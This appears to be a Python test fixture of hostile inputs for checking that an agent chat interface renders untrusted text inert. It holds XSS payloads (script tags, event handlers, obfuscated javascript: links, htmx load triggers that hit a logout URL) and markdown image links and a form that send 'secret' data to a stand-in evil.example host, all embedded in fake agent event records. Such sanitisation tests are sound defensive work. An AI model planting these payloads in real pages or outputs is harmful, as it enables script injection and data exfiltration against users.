"""Untrusted text that tries everything: it must render inert (SEC1, SEC2, T1)."""

from __future__ import annotations

from typing import Any

SCRIPT_VARIANTS = [
    "<script>alert('xss-script')</script>",
    "<img src=x onerror=\"alert('xss-img')\">",
    "<svg onload=\"alert('xss-svg')\"></svg>",
    "<iframe src=\"javascript:alert('xss-iframe')\"></iframe>",
    '<div hx-get="/accounts/logout/" hx-trigger="load">htmx-load</div>',
    '<button hx-on:click="alert(\'xss-hx-on\')" hx-on="click: alert(1)">hx-on</button>',
    '<div data-hx-get="/accounts/logout/" data-hx-trigger="load">data-hx</div>',
    "<a href=\"javascript:alert('xss-a')\">raw link</a>",
    "<style>body{display:none}</style>",
    '<form action="https://evil.example/steal"><input name=q></form>',
]

MARKDOWN_ATTACKS = "\n\n".join(
    [
        "[plain](javascript:alert('md-1'))",
        "[case](JaVaScRiPt:alert('md-2'))",
        "[entity](&#106;avascript:alert('md-3'))",
        "[hex entity](&#x6A;avascript:alert('md-4'))",
        "[tab](java\tscript:alert('md-5'))",
        "[newline](java%0Ascript:alert('md-6'))",
        "[space]( javascript:alert('md-7'))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![inline exfil](https://evil.example/pixel.png?q=secret)",
        "![ref exfil][pix]\n\n[pix]: https://evil.example/ref.png?q=secret",
        "![protocol-relative](//evil.example/p.png)",
        '<img src="https://evil.example/raw.png">',
        "Autolink <javascript:alert('md-8')>",
        *SCRIPT_VARIANTS,
    ]
)


def hostile_events() -> list[dict[str, Any]]:
    joined = "\n".join(SCRIPT_VARIANTS)
    return [
        {"type": "user.message", "message_id": "<u1 onclick=alert(1)>", "content": joined},
        {"type": "agent.step.completed", "message_id": "a1", "content": MARKDOWN_ATTACKS},
        {
            "type": "agent.tool.started",
            "tool_call_id": "\"><script>alert('id')</script>",
            "tool_name": "<img src=x onerror=alert('name')>",
            "args": {
                "<b onmouseover=alert('key')>key</b>": "<svg onload=alert('value')>",
                "nested": {"<script>": ["<img src=x onerror=alert('deep')>"]},
            },
        },
        {
            "type": "agent.tool.completed",
            "tool_call_id": "\"><script>alert('id')</script>",
            "result": {"<script>alert('rkey')</script>": joined},
            "details": {
                "kind": "file",
                "path": "<img src=x onerror=alert('path')>",
                "summary": "<script>alert('summary')</script>",
            },
        },
        {
            "type": "agent.tool.started",
            "tool_call_id": "t2",
            "tool_name": "run_cmd",
            "args_summary": "<iframe src=javascript:alert('summary')>",
        },
        {
            "type": "agent.tool.completed",
            "tool_call_id": "t2",
            "error": joined,
            "details": {
                "kind": "command",
                "command": "<script>alert('cmd')</script>",
                "exit_code": "<b>1</b>",
            },
        },
        {"type": "agent.tool.started", "tool_call_id": "t3", "tool_name": "fetch"},
        {
            "type": "agent.tool.progress",
            "tool_call_id": "t3",
            "progress": 0.5,
            "output": joined,
            "message": "→ <img src=x onerror=alert('progress')>",
        },
        {"type": "agent.status", "status": "info", "message": joined},
        {
            "type": "agent.continuation",
            "should_continue": False,
            "stop_reason": "<script>alert('stop')</script>",
            "resolved_by": "<img src=x onerror=alert('resolved')>",
        },
        {
            "type": "agent.status",
            "status": "failed",
            "error_message": "<img src=x onerror=alert('banner')>",
        },
    ]
